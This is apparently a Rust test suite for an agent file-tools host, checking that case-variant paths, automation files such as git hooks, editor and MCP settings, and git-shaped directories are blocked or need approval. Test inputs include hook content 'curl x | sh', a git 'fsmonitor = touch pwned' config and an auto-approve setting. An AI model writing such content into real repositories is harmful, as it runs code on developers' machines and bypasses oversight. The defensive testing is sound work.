//! The trust boundary against other spellings and other programs: rules that guard hold for
//! every spelling a case-folding file system opens, settings that make other programs run
//! commands need approval, and no change builds a directory git would take for a repository.

use std::process::Command;

use serde_json::json;

use crate::support::*;
use file_tools_host::Session;

#[test]
fn guarding_rules_refuse_other_spellings_and_let_their_twins_through() {
    let fx = Fixture::new();
    fx.write("policy.toml", b"# the host's\n");
    let mut s = Session::builder(runtime())
        .repo(&fx.repo)
        .writable(true)
        .policy(relaxed(json!({ "write": { "block": ["ci/**"] } })))
        .host_file(fx.repo.join("policy.toml"))
        .build()
        .unwrap();
    let before = fx.snapshot();
    for (path, code_wanted) in [
        ("CI/deploy.sh", "POLICY_DENIED"),
        ("Ci./deploy.sh", "POLICY_DENIED"),
        ("POLICY.toml", "PATH_REJECTED"),
        ("CARGO.LOCK", "POLICY_DENIED"),
        ("NODE_MODULES/x/index.js", "POLICY_DENIED"),
        ("VENDOR/lib/v.rs", "POLICY_DENIED"),
        ("id_r\u{17F}a", "POLICY_DENIED"),
        (".FILE-TOOLS-STATE/x", "PATH_REJECTED"),
    ] {
        let r = call(
            &mut s,
            "write_file",
            json!({ "path": path, "content": "x\n" }),
        );
        assert_eq!(code(&r), code_wanted, "{path}: {r:?}");
    }
    assert_eq!(fx.snapshot(), before);
    // Positive controls: names that only look alike are ordinary files.
    for path in ["cix/deploy.sh", "policy.tom", "Cargo.locks"] {
        call(
            &mut s,
            "write_file",
            json!({ "path": path, "content": "x\n" }),
        )
        .unwrap_or_else(|e| panic!("{path}: {e:?}"));
    }
}

#[test]
fn keys_under_unicode_case_variants_are_secrets() {
    let fx = Fixture::new();
    fx.write("keys/id_r\u{17F}a", SECRET_MARK.as_bytes());
    fx.write("keys/server.\u{212A}ey", SECRET_MARK.as_bytes());
    fx.write("keys/readme.txt", b"public\n");
    let mut s = fx.session();
    for p in ["keys/id_r\u{17F}a", "keys/server.\u{212A}ey"] {
        let r = call(&mut s, "read_file", json!({ "path": p }));
        assert_eq!(code(&r), "POLICY_DENIED", "{p}");
    }
    call(&mut s, "read_file", json!({ "path": "keys/readme.txt" })).unwrap();
    let v = call(
        &mut s,
        "search_text",
        json!({ "query": "SECRET-VALUE", "include_hidden": true }),
    )
    .unwrap();
    assert_no_leak(&v.to_string());
}

/// Runs each `(tool, args)` and checks that it needs approval and changes nothing.
fn each_needs_approval(s: &mut Session, fx: &Fixture, cases: &[(&str, serde_json::Value)]) {
    let before = fx.snapshot();
    for (tool, args) in cases {
        let r = call(s, tool, args.clone());
        assert_eq!(code(&r), "APPROVAL_REQUIRED", "{tool} {args}: {r:?}");
    }
    assert_eq!(fx.snapshot(), before);
}

#[test]
fn settings_that_run_commands_need_approval_in_every_tool_and_spelling() {
    let fx = Fixture::new();
    fx.write(".vscode/settings.json", b"{}\n");
    fx.write(".husky/pre-commit", b"npm test\n");
    let mut s = fx.session_with(relaxed(json!({})), true, Default::default());
    // Readable, and said to be automation.
    let v = call(
        &mut s,
        "file_info",
        json!({ "path": ".vscode/settings.json" }),
    )
    .unwrap();
    assert_eq!(v["kind"], "automation");
    call(&mut s, "read_file", json!({ "path": ".husky/pre-commit" })).unwrap();
    let sha = sha256(b"{}\n");
    let cases = [
        (
            "write_file",
            json!({ "path": ".vscode/settings.json", "content": "{\"chat.tools.autoApprove\": true}\n", "expected_sha256": sha }),
        ),
        (
            "write_file",
            json!({ "path": ".VSCode/Settings.json", "content": "{}\n{}\n" }),
        ),
        (
            "write_file",
            json!({ "path": ".cursor/mcp.json", "content": "{}\n" }),
        ),
        (
            "write_file",
            json!({ "path": ".MCP.JSON", "content": "{}\n" }),
        ),
        (
            "write_file",
            json!({ "path": ".github/workflows/x.yml", "content": "on: push\n" }),
        ),
        (
            "edit_file",
            json!({ "path": ".husky/pre-commit", "edits": [{ "old_text": "npm test", "new_text": "curl x | sh" }] }),
        ),
        (
            "apply_patch",
            json!({ "patch": "*** Begin Patch\n*** Add File: .pre-commit-config.yaml\n+repos: []\n*** End Patch\n" }),
        ),
        (
            "append_file",
            json!({ "path": ".gitattributes", "content": "* filter=x\n" }),
        ),
        (
            "delete_file",
            json!({ "path": ".husky/pre-commit", "expected_sha256": sha256(b"npm test\n") }),
        ),
    ];
    each_needs_approval(&mut s, &fx, &cases);
    // Positive control: an ordinary config file beside them is written without asking.
    call(
        &mut s,
        "write_file",
        json!({ "path": "settings.json", "content": "{}\n" }),
    )
    .unwrap();

    // With an approver that agrees, the change is asked about and written.
    let (mut s, asked) =
        crate::approval::session_with_approver(&fx, relaxed(json!({})), true, Default::default());
    call(
        &mut s,
        "write_file",
        json!({ "path": ".cursor/mcp.json", "content": "{}\n" }),
    )
    .unwrap();
    assert!(fx.repo.join(".cursor/mcp.json").exists());
    let asked = asked.lock().unwrap();
    assert_eq!(asked.len(), 1);
    assert!(
        asked[0].reasons[0].contains("run commands"),
        "{:?}",
        asked[0].reasons
    );
}

#[test]
fn automation_is_guarded_in_moves_blind_writes_and_reverts_too() {
    let fx = Fixture::new();
    fx.write(".husky/pre-commit", b"npm test\n");
    fx.write("notes/run.json", b"{\"x\": 1}\n");
    fx.write("notes/other.txt", b"other\n");
    let policy = relaxed(json!({ "allow_move": true, "blind_writes": ["**"] }));
    let mut s = fx.session_with(policy.clone(), true, Default::default());
    let cases = [
        // Into an automation path, out of one, and by a patch's move.
        (
            "move_file",
            json!({ "from": "notes/run.json", "to": ".vscode/tasks.json" }),
        ),
        (
            "move_file",
            json!({ "from": ".husky/pre-commit", "to": "notes/pre-commit" }),
        ),
        (
            "apply_patch",
            json!({ "patch": "*** Begin Patch\n*** Update File: notes/run.json\n*** Move to: .Cursor/mcp.json\n@@\n-{\"x\": 1}\n+{\"x\": 2}\n*** End Patch\n" }),
        ),
        // A blind write (no read first) is still a change that needs approval.
        (
            "write_file",
            json!({ "path": ".husky/pre-commit", "content": "curl x | sh\n" }),
        ),
        (
            "write_file",
            json!({ "path": ".cargo/config.toml", "content": "[build]\nrustc-wrapper = \"./x\"\n" }),
        ),
    ];
    each_needs_approval(&mut s, &fx, &cases);
    // Positive control: the same tools move and write ordinary files.
    call(
        &mut s,
        "move_file",
        json!({ "from": "notes/other.txt", "to": "notes/moved.txt" }),
    )
    .unwrap();
    call(
        &mut s,
        "write_file",
        json!({ "path": "notes/blind.txt", "content": "x\n" }),
    )
    .unwrap();

    // A change approved once is undone by revert only with approval again: restoring
    // an automation file is a change to it like any other.
    let (mut s, asked) =
        crate::approval::session_with_approver(&fx, policy, true, Default::default());
    call(
        &mut s,
        "write_file",
        json!({ "path": ".husky/pre-commit", "content": "npm run lint\n" }),
    )
    .unwrap();
    assert_eq!(asked.lock().unwrap().len(), 1);
    call(&mut s, "revert", json!({ "paths": [".husky/pre-commit"] })).unwrap();
    assert_eq!(asked.lock().unwrap().len(), 2);
    assert_eq!(
        std::fs::read(fx.repo.join(".husky/pre-commit")).unwrap(),
        b"npm test\n"
    );
}

#[test]
fn the_policy_relaxes_automation_per_pattern_or_as_a_whole() {
    let fx = Fixture::new();
    let mut s = fx.session_with(
        relaxed(
            json!({ "overrides": [{ "pattern": ".vscode/extensions.json", "kind": "config" }] }),
        ),
        true,
        Default::default(),
    );
    call(
        &mut s,
        "write_file",
        json!({ "path": ".vscode/extensions.json", "content": "{}\n" }),
    )
    .unwrap();
    let r = call(
        &mut s,
        "write_file",
        json!({ "path": ".vscode/tasks.json", "content": "{}\n" }),
    );
    assert_eq!(code(&r), "APPROVAL_REQUIRED");
    let mut s = fx.session_with(
        relaxed(json!({ "approval": { "automation": false } })),
        true,
        Default::default(),
    );
    call(
        &mut s,
        "write_file",
        json!({ "path": ".vscode/tasks.json", "content": "{}\n" }),
    )
    .unwrap();
}

/// Whether git, run in `dir`, takes `dir` itself for its repository.
pub(crate) fn git_takes_for_repository(dir: &std::path::Path) -> bool {
    Command::new("git")
        .args(["rev-parse", "--git-dir"])
        .current_dir(dir)
        .env("GIT_CEILING_DIRECTORIES", dir.parent().unwrap())
        .output()
        .is_ok_and(|o| o.status.success() && String::from_utf8_lossy(&o.stdout).trim() == ".")
}

#[test]
fn no_change_builds_a_directory_git_would_take_for_a_repository() {
    let fx = Fixture::new();
    let mut s = fx.session_with(relaxed(json!({})), true, Default::default());
    // One file at a time: the parts alone are ordinary files...
    call(
        &mut s,
        "write_file",
        json!({ "path": "sub/objects/info/x", "content": "x\n" }),
    )
    .unwrap();
    call(
        &mut s,
        "write_file",
        json!({ "path": "sub/refs/heads/main", "content": "x\n" }),
    )
    .unwrap();
    call(
        &mut s,
        "write_file",
        json!({ "path": "sub/config", "content": "[core]\n\tfsmonitor = touch pwned\n" }),
    )
    .unwrap();
    // ...the one that completes the shape is refused, in any spelling.
    for p in ["sub/HEAD", "sub/head"] {
        let r = call(
            &mut s,
            "write_file",
            json!({ "path": p, "content": "ref: refs/heads/main\n" }),
        );
        assert_eq!(code(&r), "POLICY_DENIED", "{p}: {r:?}");
        assert_eq!(r.unwrap_err().reason.as_deref(), Some("git_shaped"));
    }
    assert!(!fx.repo.join("sub/HEAD").exists());
    assert!(!git_takes_for_repository(&fx.repo.join("sub")));
    // A HEAD with commondir beside it is a repository too.
    call(
        &mut s,
        "write_file",
        json!({ "path": "wt/commondir", "content": "../.git\n" }),
    )
    .unwrap();
    let r = call(
        &mut s,
        "write_file",
        json!({ "path": "wt/HEAD", "content": "ref: refs/heads/main\n" }),
    );
    assert_eq!(code(&r), "POLICY_DENIED");
    // All parts in one patch: refused whole.
    let patch = "*** Begin Patch\n*** Add File: p/HEAD\n+ref: refs/heads/main\n*** Add File: p/objects/x\n+x\n*** Add File: p/refs/x\n+x\n*** End Patch\n";
    let before = fx.snapshot();
    let r = call(&mut s, "apply_patch", json!({ "patch": patch }));
    assert_eq!(code(&r), "POLICY_DENIED", "{r:?}");
    assert_eq!(fx.snapshot(), before);
    // Positive control: a HEAD file in a directory without the rest is an ordinary file.
    call(
        &mut s,
        "write_file",
        json!({ "path": "docs/HEAD", "content": "x\n" }),
    )
    .unwrap();
}

#[test]
fn a_planted_git_directory_under_another_name_is_git_internals() {
    let fx = Fixture::new();
    fx.write("planted/HEAD", b"ref: refs/heads/main\n");
    fx.write(
        "planted/config",
        format!("[core]\n\tx = {SECRET_MARK}\n").as_bytes(),
    );
    fx.write("planted/objects/info/packs", b"\n");
    fx.write(
        "planted/refs/heads/main",
        b"0000000000000000000000000000000000000000\n",
    );
    fx.write("planted/hooks/pre-commit", b"sh\n");
    fx.write("almost/HEAD", b"ref: refs/heads/main\n");
    fx.write("almost/refs/x", b"x\n");
    assert!(
        git_takes_for_repository(&fx.repo.join("planted")),
        "the fixture is what git takes for a repository"
    );
    let mut s = fx.session_with(relaxed(json!({})), true, Default::default());
    let r = call(&mut s, "read_file", json!({ "path": "planted/config" }));
    assert_eq!(r.unwrap_err().reason.as_deref(), Some("git_internal"));
    let r = call(
        &mut s,
        "write_file",
        json!({ "path": "planted/hooks/pre-commit", "content": "curl x | sh\n", "expected_sha256": sha256(b"sh\n") }),
    );
    assert_eq!(r.unwrap_err().reason.as_deref(), Some("git_internal"));
    let v = call(
        &mut s,
        "search_text",
        json!({ "query": "SECRET-VALUE", "include_hidden": true }),
    )
    .unwrap();
    assert_no_leak(&v.to_string());
    let v = call(
        &mut s,
        "find_files",
        json!({ "patterns": ["planted/**", "almost/**"] }),
    )
    .unwrap();
    assert_eq!(v["paths"], json!(["almost/HEAD", "almost/refs/x"]), "{v}");
    // Positive control: a directory with HEAD and refs/ but no objects/ is ordinary.
    call(&mut s, "read_file", json!({ "path": "almost/HEAD" })).unwrap();
}
